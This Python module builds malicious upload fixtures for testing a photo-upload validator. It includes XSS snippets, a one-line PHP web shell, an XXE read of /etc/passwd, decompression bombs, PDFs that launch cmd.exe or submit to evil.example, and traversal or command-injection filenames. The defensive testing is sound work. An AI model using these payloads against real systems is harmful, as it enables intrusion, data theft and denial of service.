"""Files that nobody should send, built here so that no binary lies in the repository.

`CASES` is the table: what the file is, what becomes of it, how it is made. Of a file that is kept, only fresh JPEGs of
its pixels remain, as many as the table says.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from hashlib import md5
from itertools import cycle

import pillow_heif
from PIL import Image, ImageDraw, PngImagePlugin

pillow_heif.register_heif_opener()

SCRIPT = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET[0]); ?>"
MARKERS = (b"<script", b"<?php", b"PK\x03\x04", b"%PDF")
MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Case:
    """`outcome`: a key of districts.photos.SENTENCES, "gave up" when the decoder dies, or how many pages are kept."""

    name: str
    outcome: str | int
    make: Callable[[], bytes]


# --- pictures -------------------------------------------------------------------------------------------------------
def picture(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Two halves, so that a decoder has something to do and a test can see what is up."""
    image = Image.new("RGB", size, (200, 100, 50))
    ImageDraw.Draw(image).rectangle((0, 0, size[0], size[1] // 2), fill=(20, 60, 180))
    return image.convert(mode)


def saved(form: str, image: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    (image or picture()).save(out, form, **options)
    return out.getvalue()


def exif() -> Image.Exif:
    tags = Image.Exif()
    tags[0x010F] = "<script>alert(1)</script>"
    tags[0x9286] = "<?php phpinfo(); ?>"
    gps = tags.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (37.0, 51.0, 0.0), "E", (113.0, 34.0, 0.0)
    return tags


def turned(orientation: int) -> bytes:
    tags = exif()
    tags[0x0112] = orientation
    return saved("JPEG", exif=tags)


def zeros(megabytes: int) -> bytes:
    """A zlib stream of that many megabytes of nothing: a thousandth of its size, made without compressing them all."""
    squeezer = zlib.compressobj(9)
    head = squeezer.compress(b"") + squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(bytes(MEGABYTE)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack("!HH", megabytes * MEGABYTE % 65521, 1)
    return head + block * megabytes + b"\x03\x00" + checksum


# --- JPEG -----------------------------------------------------------------------------------------------------------
def segment(marker: int, content: bytes) -> bytes:
    return struct.pack("!BBH", 0xFF, marker, len(content) + 2) + content


def jpeg_with(*segments: bytes) -> bytes:
    """A JPEG with more segments right behind its first two bytes."""
    whole = saved("JPEG")
    return whole[:2] + b"".join(segments) + whole[2:]


def jpeg_of_size(width: int, height: int) -> bytes:
    """A small JPEG whose header lies about its size."""
    whole = bytearray(saved("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack("!HH", height, width)
    return bytes(whole)


def icc_in_jpeg(content: bytes) -> bytes:
    parts = [content[start : start + 65_000] for start in range(0, len(content), 65_000)]
    return jpeg_with(*(segment(0xE2, b"ICC_PROFILE\0" + bytes((n, len(parts))) + p) for n, p in enumerate(parts, 1)))


def scans(times: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    whole = saved("JPEG", picture(size=(800, 600)), progressive=True)
    last = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + last * times + whole[-2:]


def thumbnail_bomb() -> bytes:
    """EXIF whose second directory points at itself, and a count of four thousand million."""
    entry = struct.pack("<HHII", 0x0112, 3, 0xFFFFFFFF, 8)
    tiff = b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)
    return jpeg_with(segment(0xE1, b"Exif\0\0" + tiff))


def broken_orientation() -> bytes:
    return jpeg_with(segment(0xE1, b"Exif\0\0" + b"MM\0*" + b"\xff" * 60))


# --- PNG ------------------------------------------------------------------------------------------------------------
PNG = b"\x89PNG\r\n\x1a\n"


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def png(width: int, height: int, *more: bytes, data: bytes = b"", depth: int = 8, color: int = 2) -> bytes:
    header = struct.pack("!IIBBBBB", width, height, depth, color, 0, 0, 0)
    data = data or zlib.compress((b"\0" + b"\x7f" * width * 3) * min(height, 100))
    return PNG + chunk(b"IHDR", header) + b"".join(more) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png_with_text(words: bytes) -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", words.decode())
    notes.add_itxt("XML:com.adobe.xmp", words.decode())
    return saved("PNG", pnginfo=notes)


def animated(form: str) -> bytes:
    frames = [picture(), picture("L").convert("RGB"), picture().rotate(90)]
    return saved(form, frames[0], save_all=True, append_images=frames[1:], duration=40)


# --- HEIC -----------------------------------------------------------------------------------------------------------
def heic(**options: object) -> bytes:
    return saved("HEIF", picture(size=(128, 96)), **options)


def heic_of_size(width: int, height: int) -> bytes:
    """A HEIC whose `ispe` box lies about its size."""
    whole = bytearray(heic())
    at = whole.index(b"ispe")
    whole[at + 8 : at + 16] = struct.pack("!II", width, height)
    return bytes(whole)


def box(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content) + 8) + name + content


def nested_boxes(depth: int) -> bytes:
    content = b""
    for _ in range(depth):
        content = box(b"meta", b"\0\0\0\0" + content)
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + content


# --- PDF ------------------------------------------------------------------------------------------------------------
def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Objects numbered from 1, the first of which is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
        + b"trailer <</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out))
    )


def stream(content: bytes, words: bytes = b"") -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (words, len(content), content)


def one_page(
    *more: bytes, catalogue: bytes = b"", page: bytes = b"", box: bytes = b"0 0 595 842", drawn: bytes = b""
) -> bytes:
    """A PDF of one page; `more` are objects from number 5."""
    return pdf(
        b"<</Type /Catalog /Pages 2 0 R %s>>" % catalogue,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R %s>>" % (box, page),
        drawn or stream(b"1 0 0 rg 100 100 200 200 re f"),
        *more,
    )


def many_pages(count: int, said: int | None = None) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>>"
    pages = b"<</Type /Pages /Kids [%s] /Count %d>>" % (kids, count if said is None else said)
    return pdf(b"<</Type /Catalog /Pages 2 0 R>>", pages, *[page] * count)


def action(words: bytes) -> bytes:
    return one_page(b"<</Type /Action %s>>" % words, catalogue=b"/OpenAction 5 0 R", page=b"/AA <</O 5 0 R>>")


def link(words: bytes) -> bytes:
    spot = b"<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /A <<%s>>>>" % words
    return one_page(spot, page=b"/Annots [5 0 R]")


def rc4(key: bytes, content: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i, letter in zip(range(256), cycle(key), strict=False):
        j = (j + state[i] + letter) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for letter in content:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(letter ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def locked(password: bytes) -> bytes:
    """Encrypted with the 40-bit scheme of PDF 1.1; an empty password opens without asking."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    owner = rc4(md5(b"owner" + pad[:27], usedforsecurity=False).digest()[:5], (password + pad)[:32])
    key = md5((password + pad)[:32] + owner + struct.pack("<i", -4) + b"id", usedforsecurity=False).digest()[:5]
    words = b"<</Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s>>>"
    lock = words % (owner.hex().encode(), rc4(key, pad).hex().encode())
    plain = one_page(lock)
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R /ID [<6964> <6964>]")


def page_of_image(width: int, height: int, packed: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    words = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter %s"
    return one_page(
        stream(packed, words % (width, height, filters)),
        page=b"/Resources <</XObject <</I 5 0 R>>>>",
        drawn=stream(b"595 0 0 842 0 0 cm /I Do"),
    )


def forms_inside_forms(depth: int) -> bytes:
    """Each form draws the next one ten times."""
    words = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources <</XObject <</F %d 0 R>>>>"
    forms = [stream(b"/F Do " * 10, words % (number + 6)) for number in range(depth)]
    last = stream(b"0 0 10 10 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    page = b"/Resources <</XObject <</F 5 0 R>>>>"
    return one_page(*forms, last, page=page, drawn=stream(b"/F Do"))


def page_that_is_its_own_parent() -> bytes:
    return pdf(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R] /Count 3>>")


def javascript_among_names() -> bytes:
    return one_page(catalogue=b"/Names <</JavaScript <</Names [(a) <<" + JS_PDF + b">>]>>>>")


def file_inside() -> bytes:
    names = b"/Names <</EmbeddedFiles <</Names [(a.php) <</Type /Filespec /F (a.php) /EF <</F 5 0 R>>>>]>>>>"
    return one_page(stream(PHP, b"/Type /EmbeddedFile"), catalogue=names)


def xfa() -> bytes:
    form = stream(b"<xdp:xdp>" + SCRIPT + b"</xdp:xdp>")
    return one_page(form, catalogue=b"/AcroForm <</Fields [] /XFA 5 0 R>>")


def script_as_author() -> bytes:
    return one_page().replace(b"/Root 1 0 R", b"/Root 1 0 R /Info <</Author (" + SCRIPT + b")>>")


def squeezed_twice() -> bytes:
    return one_page(drawn=stream(zlib.compress(zeros(1000), 9), b"/Filter [/FlateDecode /FlateDecode]"))


def nested(opening: bytes, depth: int) -> bytes:
    return one_page(opening * depth, page=b"/Resources 5 0 R")


# --- everything else ------------------------------------------------------------------------------------------------
def zipped(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, SCRIPT)
    return out.getvalue()


SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
JS_PDF = b"/S /JavaScript /JS (app.alert\\(1\\);)"


def table(rows: Iterable[tuple[str, str | int, bytes | Callable[[], bytes]]]) -> list[Case]:
    return [Case(name, end, make if callable(make) else lambda made=make: made) for name, end, make in rows]


CASES = table(
    [
        # no picture at all
        ("an empty file", "unreadable", b""),
        ("one byte", "unreadable", b"\xff"),
        ("a thousand zeros", "unreadable", bytes(1000)),
        ("plain text", "unreadable", "户口簿".encode()),
        ("HTML", "unreadable", HTML),
        ("HTML behind a byte-order mark", "unreadable", b"\xef\xbb\xbf" + HTML),
        ("SVG", "unreadable", SVG),
        ("SVG that is compressed", "unreadable", lambda: b"\x1f\x8b" + zlib.compress(SVG)),
        (
            "XML that opens a file of the server",
            "unreadable",
            b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        ),
        ("a Windows program", "unreadable", b"MZ\x90\0" + bytes(200)),
        ("a Linux program", "unreadable", b"\x7fELF\x02\x01\x01" + bytes(200)),
        ("a shell script", "unreadable", b"#!/bin/sh\nid\n"),
        ("PHP", "unreadable", PHP),
        ("a ZIP archive", "unreadable", lambda: zipped("a.html")),
        ("a Word document", "unreadable", lambda: zipped("[Content_Types].xml", "word/document.xml")),
        ("an archive whose names climb out", "unreadable", lambda: zipped("../../etc/cron.d/x")),
        ("a RAR archive", "unreadable", b"Rar!\x1a\x07\x01\0" + bytes(200)),
        ("an old Word document", "unreadable", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
        ("PostScript", "unreadable", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n"),
        ("a film", "unreadable", lambda: box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + bytes(200)),
        ("AVIF", "unreadable", lambda: box(b"ftyp", b"avif\0\0\0\0avifmif1") + bytes(200)),
        # pictures of other formats
        ("GIF", "unreadable", lambda: saved("GIF")),
        ("GIF that is also JavaScript", "unreadable", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
        ("BMP", "unreadable", lambda: saved("BMP")),
        ("TIFF", "unreadable", lambda: saved("TIFF")),
        ("ICO", "unreadable", lambda: saved("ICO")),
        ("JPEG 2000", "unreadable", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(100)),
        ("Photoshop", "unreadable", b"8BPS\0\1" + bytes(100)),
        ("WMF", "unreadable", b"\xd7\xcd\xc6\x9a" + bytes(100)),
        ("portable pixmap", "unreadable", lambda: saved("PPM")),
        ("TGA", "unreadable", lambda: saved("TGA")),
        # cut off and lying
        ("JPEG, three bytes of it", "unreadable", b"\xff\xd8\xff"),
        ("JPEG cut in half", "unreadable", lambda: saved("JPEG", picture(size=(400, 300)))[:1500]),
        ("PNG cut in half", "unreadable", lambda: saved("PNG", picture(size=(400, 300)))[:300]),
        ("WebP cut in half", "unreadable", lambda: saved("WEBP", picture(size=(400, 300)))[:150]),
        ("HEIC cut in half", "unreadable", lambda: heic()[: len(heic()) // 2]),
        ("PDF cut in half", "pdf-unreadable", lambda: one_page()[:100]),
        ("JPEG without pixels", "unreadable", lambda: jpeg_of_size(0, 0)),
        ("JPEG that says it is 65 535 wide and high", "too-large", lambda: jpeg_of_size(65_535, 65_535)),
        ("JPEG that says it is 7 000 wide and high", 1, lambda: jpeg_of_size(7_000, 7_000)),
        ("PNG whose checksum is wrong", "unreadable", lambda: png(8, 8)[:-20] + bytes(20)),
        ("PNG without pixels", "unreadable", lambda: png(0, 0)),
        ("PNG with less than it says", 1, lambda: png(5_000, 5_000)),
        ("PNG with a chunk of four gigabytes", "unreadable", PNG + b"\xff\xff\xff\xffIHDR" + bytes(100)),
        ("WebP that says it is longer", "unreadable", b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + bytes(50)),
        ("HEIC that says it is 60 000 wide", "too-large", lambda: heic_of_size(60_000, 60_000)),
        ("HEIC of boxes in boxes", "unreadable", lambda: nested_boxes(5_000)),
        ("HEIC of nothing but its first box", "unreadable", lambda: nested_boxes(0)),
        ("SVG that begins like HEIC", "unreadable", lambda: box(b"ftyp", b"heic\0\0\0\0mif1heic") + SVG),
        # too many pixels
        ("PNG of 30 000 × 30 000", "too-large", lambda: png(30_000, 30_000)),
        ("PNG of 13 000 × 1", "too-large", lambda: saved("PNG", picture("1", (13_000, 1)))),
        ("PNG of 1 × 65 000", "too-large", lambda: saved("PNG", picture("1", (1, 65_000)))),
        ("PNG of 8 000 × 8 000, one bit each", "too-large", lambda: saved("PNG", Image.new("1", (8_000, 8_000)))),
        ("WebP of 16 000 × 1", "too-large", lambda: saved("WEBP", picture(size=(16_000, 1)))),
        ("JPEG of 12 001 × 8", "too-large", lambda: saved("JPEG", picture(size=(12_001, 8)))),
        # animation
        ("PNG that moves", "animated", lambda: animated("PNG")),
        ("WebP that moves", "animated", lambda: animated("WEBP")),
        # bombs in what is not pixels
        ("PNG, zTXt of 200 MB", "unreadable", lambda: png(8, 8, chunk(b"zTXt", b"a\0\0" + zeros(200)))),
        ("PNG, iTXt of 200 MB", "unreadable", lambda: png(8, 8, chunk(b"iTXt", b"a\0\1\0\0\0" + zeros(200)))),
        ("PNG, iCCP of 200 MB", "unreadable", lambda: png(8, 8, chunk(b"iCCP", b"a\0\0" + zeros(200)))),
        ("PNG, pixels of 1 GB for 8 × 8", 1, lambda: png(8, 8, data=zeros(1000))),
        ("PNG, 20 000 comments", 1, lambda: png(8, 8, chunk(b"tEXt", b"a\0b") * 20_000)),
        ("JPEG, ICC profile of 10 MB", 1, lambda: icc_in_jpeg(b"\xff" * 10 * MEGABYTE)),
        ("JPEG, EXIF that points at itself", 1, thumbnail_bomb),
        ("JPEG, EXIF of rubbish", 1, broken_orientation),
        ("JPEG, 65 535 markers", 1, lambda: jpeg_with(segment(0xFE, b"x") * 65_535)),
        ("JPEG, a last scan that comes 200 times", 1, lambda: scans(200)),
        # two files in one
        ("JPEG and ZIP", 1, lambda: saved("JPEG") + zipped("a.html")),
        ("JPEG and HTML", 1, lambda: saved("JPEG") + HTML),
        ("JPEG and PDF", 1, lambda: jpeg_with(segment(0xFE, one_page())) + one_page()),
        ("JPEG, script in its comment", 1, lambda: jpeg_with(segment(0xFE, SCRIPT + PHP + b"PK\x03\x04"))),
        ("JPEG, script in its EXIF and a place", 1, lambda: saved("JPEG", exif=exif())),
        ("JPEG, script in XMP", 1, lambda: jpeg_with(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT))),
        ("JPEG, script in IPTC", 1, lambda: jpeg_with(segment(0xED, b"Photoshop 3.0\0" + b"8BIM" + SCRIPT))),
        ("PNG and PHP", 1, lambda: saved("PNG") + PHP),
        ("PNG, PHP in its texts", 1, lambda: png_with_text(PHP)),
        ("PNG, script as its palette", 1, lambda: png(8, 8, chunk(b"PLTE", (SCRIPT * 30)[:768]))),
        ("PNG, a place in its EXIF", 1, lambda: saved("PNG", exif=exif())),
        ("WebP, script in its EXIF and XMP", 1, lambda: saved("WEBP", exif=exif(), xmp=SCRIPT)),
        ("HEIC, a place in its EXIF, script in XMP", 1, lambda: heic(exif=exif().tobytes(), xmp=SCRIPT)),
        ("PDF and HTML", 1, lambda: one_page() + HTML),
        ("PDF and ZIP", 1, lambda: one_page() + zipped("a.html")),
        ("HTML before a PDF", "unreadable", lambda: HTML + one_page()),
        ("one blank before a PDF", "unreadable", lambda: b" " + one_page()),
        ("HTML before a JPEG", "unreadable", lambda: HTML + saved("JPEG")),
        # odd, and good
        *((f"JPEG held in way {number} of 8", 1, lambda number=number: turned(number)) for number in range(1, 9)),
        ("JPEG held in way 9", 1, lambda: turned(9)),
        ("JPEG in CMYK", 1, lambda: saved("JPEG", picture("CMYK"))),
        ("JPEG in grey", 1, lambda: saved("JPEG", picture("L"))),
        ("JPEG of two pictures", 1, lambda: saved("MPO", save_all=True, append_images=[picture()])),
        ("PNG of 16 bits", 1, lambda: saved("PNG", Image.new("I;16", (8, 8), 0x8000))),
        ("PNG with a palette", 1, lambda: saved("PNG", picture("P"), transparency=0)),
        ("PNG in grey with transparency", 1, lambda: saved("PNG", picture("LA"))),
        ("PNG of one bit", 1, lambda: saved("PNG", picture("1"))),
        ("WebP with transparency", 1, lambda: saved("WEBP", picture("RGBA"), lossless=True)),
        ("HEIC of several pictures", 1, lambda: heic(save_all=True, append_images=[picture(size=(128, 96))])),
        # PDF
        ("PDF of nothing but its first line", "pdf-unreadable", b"%PDF-1.4 nothing"),
        ("PDF, JavaScript when opened", 1, lambda: action(JS_PDF)),
        ("PDF, JavaScript among its names", 1, javascript_among_names),
        ("PDF that starts a program", 1, lambda: action(b"/S /Launch /F (cmd.exe) /Win <</F (cmd.exe)>>")),
        ("PDF that sends a form", 1, lambda: action(b"/S /SubmitForm /F (http://evil.example/)")),
        ("PDF that opens another file", 1, lambda: action(b"/S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]")),
        ("PDF with a link out", 1, lambda: link(b"/S /URI /URI (javascript:alert\\(1\\))")),
        ("PDF with a file inside", 1, file_inside),
        ("PDF with an XFA form", 1, xfa),
        ("PDF whose author is a script", 1, script_as_author),
        ("PDF with a password", "pdf-locked", lambda: locked(b"secret")),
        ("PDF encrypted with an empty password", "pdf-locked", lambda: locked(b"")),
        ("PDF of 11 pages", "pdf-pages", lambda: many_pages(11)),
        ("PDF of 61 pages", "pdf-pages", lambda: many_pages(61)),
        ("PDF that says it has two thousand million pages", 1, lambda: many_pages(1, said=2_000_000_000)),
        ("PDF without pages", "pdf-unreadable", lambda: many_pages(0)),
        ("PDF whose pages are their own parent", "pdf-unreadable", page_that_is_its_own_parent),
        ("PDF of 200 inches", 1, lambda: one_page(box=b"0 0 14400 14400")),
        ("PDF of a million points", "pdf-size", lambda: one_page(box=b"0 0 1000000 1000000")),
        ("PDF of no height", 1, lambda: one_page(box=b"0 0 595 0")),
        ("PDF of half a point", "pdf-size", lambda: one_page(box=b"0 0 0.5 0.5")),
        ("PDF of 14 400 × 1", 1, lambda: one_page(box=b"0 0 14400 1")),
        ("PDF, 1 GB of drawing", "gave up", lambda: one_page(drawn=stream(zeros(1000), b"/Filter /FlateDecode"))),
        ("PDF, 1 GB squeezed twice", "gave up", squeezed_twice),
        ("PDF, a picture of 30 000 × 30 000", 1, lambda: page_of_image(30_000, 30_000, zeros(100))),
        ("PDF, a picture of two thousand million", 1, lambda: page_of_image(2_000_000_000, 2_000_000_000, zeros(1))),
        ("PDF, forms in forms, ten each time", "gave up", lambda: forms_inside_forms(9)),
        ("PDF, arrays in arrays", 1, lambda: nested(b"[", 50_000)),
        ("PDF, dictionaries in dictionaries", 1, lambda: nested(b"<</A ", 50_000)),
    ]
)


# Names that a path, a page or a disk could stumble over. The name decides nothing, so each of these photos is kept.
NAMES = (
    "../../etc/passwd.jpg",
    "..\\..\\windows\\system32\\a.jpg",
    "/etc/cron.d/a.jpg",
    "C:\\boot.ini",
    "\u202egpj.exe",
    "a\u2066\u2069.jpg",
    "名" * 85 + ".jpg",
    "名" * 400 + ".jpg",
    "CON",
    "nul.jpg",
    "COM1.png",
    "a.jpg::$DATA",
    "a.jpg.",
    ".htaccess",
    "a.php",
    "a.jpg;.php",
    "<script>alert(1)</script>.jpg",
    "a'\"&.jpg",
    "%2e%2e%2fa.jpg",
    "-rf",
    "$(id).jpg",
    "\U0001f600.jpg",
)
